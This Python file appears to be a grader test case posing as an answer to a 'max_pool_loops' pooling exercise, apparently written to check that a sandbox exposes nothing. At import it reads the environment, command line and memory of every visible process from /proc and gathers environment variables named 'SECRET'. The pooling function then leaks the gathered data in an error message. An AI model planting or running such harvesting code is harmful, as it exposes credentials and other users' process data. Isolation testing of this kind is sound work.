"""Reads the environment, the command lines and the memory of every process it can see.

lesson: 01_pooling
exercise: max_pool_loops
code: OK
says: seen []
"""

# %% max_pool_loops
import os

SEEN = []
for process in os.listdir("/proc") or ["1", "self"]:
    for part in ("environ", "cmdline", "mem", "maps"):
        try:
            with open(f"/proc/{process}/{part}", "rb") as file:
                SEEN.append(file.read(100))
        except OSError:
            pass
SEEN += [value for name, value in os.environ.items() if "SECRET" in name]


def max_pool_loops(x, kernel_size, stride):
    raise RuntimeError(f"seen {SEEN}")
